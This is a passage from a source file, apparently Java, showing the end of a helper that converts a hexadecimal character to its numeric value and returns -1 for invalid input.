            return c - 'a' + 10;
        }
        if (c >= 'A' && c <= 'F') {
            return c - 'A' + 10;
        }
        return -1;
    }
}
